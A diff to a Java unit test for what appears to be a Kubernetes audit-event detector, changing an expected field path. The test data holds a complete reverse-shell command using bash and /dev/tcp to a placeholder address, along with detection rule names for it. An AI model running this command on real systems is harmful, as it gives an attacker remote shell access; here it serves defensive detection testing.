@@ -43,7 +43,7 @@ class ScorerTest {
         ScoredEvent reverseShell = s.get("metrics-sync");
         assertThat(rules(reverseShell)).contains("reverse-shell-dev-tcp", "interactive-shell");
         Signal tcp = reverseShell.signals().stream().filter(x -> x.rule().equals("reverse-shell-dev-tcp")).findFirst().orElseThrow();
-        assertThat(tcp.path()).isEqualTo("requestObject.spec.jobTemplate.spec.template.spec.containers[0].command+args");
+        assertThat(tcp.path()).isEqualTo("responseObject.spec.jobTemplate.spec.template.spec.containers[0].command+args");
         assertThat(tcp.value()).isEqualTo("/bin/sh -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1");
 
         ScoredEvent privileged = s.get("node-debug");
